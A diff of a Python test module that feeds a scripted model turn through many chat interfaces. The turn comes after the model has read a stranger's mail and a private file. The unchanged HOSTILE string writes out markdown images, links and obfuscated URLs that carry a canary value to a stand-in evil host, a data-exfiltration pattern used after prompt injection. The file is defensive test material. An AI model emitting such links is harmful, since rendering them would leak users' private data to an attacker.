@@ -1,4 +1,4 @@
-"""Everything that shows people what a model says, each with one turn of a scripted model."""
+"""All interfaces that show people a model's text, each with one turn of a scripted model."""
 
 import asyncio
 import io
@@ -32,7 +32,7 @@ HOSTILE = (
     f"Done. See [the page]({_EVIL}/?d={CANARY}) and ![]({_EVIL}/{CANARY}.png)\n\n"
     f"[r]: {_EVIL}/r/{CANARY}\n\nAlso {_EVIL}/{CANARY} and e**vil.**example/{CANARY}\n\n"
     f"<a href='{_EVIL}/{CANARY}'>here</a>\n\n"
-    # Spellings that nobody thinks of.
+    # Unusual spellings of links.
     f"![x](<https&#58;//evil%2Ecom/?s={CANARY}> (t)) ![y](//evil%2Ecom/{CANARY} (t)) ![^b]\n\n"
     f"[^b]: //evil%2Ecom/?s={CANARY}"
 )
@@ -42,8 +42,10 @@ _CALLS = (tool_call("m", "read_mail"), tool_call("p", "read_file", path="private
 
 
 class Scenario:
-    """One turn in `folder` that ends with `answer`. When it is `tainted`, the model has read a
-    stranger's words and a private file before."""
+    """A turn in `folder` that ends with `answer`.
+
+    In a `tainted` turn the model has read a stranger's words and a private file before.
+    """
 
     def __init__(self, folder: Path, answer: str, *, tainted: bool) -> None:
         self.folder = folder
@@ -65,7 +67,7 @@ class Scenario:
         return {"tools": [Mailbox("Tell us.")]}
 
     def script(self, model: ModelServer, project: Path) -> None:
-        """For a program of its own, which works in a folder that nobody trusts."""
+        """Queue the replies for a separate process that works in an untrusted folder."""
         (project / "private.md").write_text(PRIVATE)
         if self.tainted:
             read = Call("read_file", {"path": "private.md"})
@@ -73,7 +75,7 @@ class Scenario:
         model.script(self.answer)
 
 
-# Returns as markdown what the person is shown.
+# A face returns the content shown to the person, as markdown.
 Face = Callable[[Scenario], Awaitable[str]]
 
 
@@ -84,7 +86,7 @@ async def telegram(scenario: Scenario) -> str:
 
 
 def _as_markdown(part: OutboundPart) -> str:
-    """Telegram makes links of addresses, but for those in code."""
+    """Return the part as markdown; Telegram turns addresses into links, except in code."""
     units = part.text.encode("utf-16-le")
     links, code = [], []
     for entity in sorted(part.entities, key=lambda one: -one.offset):
@@ -114,7 +116,7 @@ async def console(scenario: Scenario) -> str:
 
 
 def _visible(text: str) -> str:
-    """Nothing is a link in a terminal, whose person sees every address."""
+    """Return the text without links: a terminal shows every address in full."""
     return f"~~~~~~\n{text}\n~~~~~~"
 
 
@@ -147,7 +149,7 @@ async def full_screen(scenario: Scenario) -> str:
     ):
         await screens.write("hi")
         shown = await screens.see("Done.")
-        # A screen that is closed in the middle of a turn may miss a part of itself.
+        # A screen that is closed in the middle of a turn may miss a part of it.
         await parts.until_stored("turn", state="done")
         return _visible(shown)
 
@@ -168,8 +170,10 @@ async def acp(scenario: Scenario) -> str:
 
 
 async def web_protocol(scenario: Scenario) -> str:
-    """What the page, the terminal attached from elsewhere and `kore.client` get: the stream, and
-    the conversation as it is stored."""
+    """Return the data for the page, the remote terminal and `kore.client`.
+
+    This is the stream and the stored conversation.
+    """
     async with (
         _served(scenario) as server,
         Client(server.address, server.secrets["admin"]) as client,
@@ -197,7 +201,7 @@ async def streamed_chat_completion(scenario: Scenario) -> str:
 
 
 async def response(scenario: Scenario) -> str:
-    """Also when it is sent again."""
+    """Return the response, including when it is sent again."""
     key = {"Idempotency-Key": "k"}
     async with _served(scenario) as server, client_of(server) as client:
         answers = [
@@ -225,7 +229,7 @@ async def exported_markdown(scenario: Scenario) -> str:
 
 
 async def exported_page(scenario: Scenario) -> str:
-    """The page's links as markdown."""
+    """Return the page's links as markdown."""
     async with _answered(scenario) as (parts, session):
         info = (await parts.service.preview_session(session, 0, 0)).info
         page = transcript_page(info, await parts.service.load_messages(session))
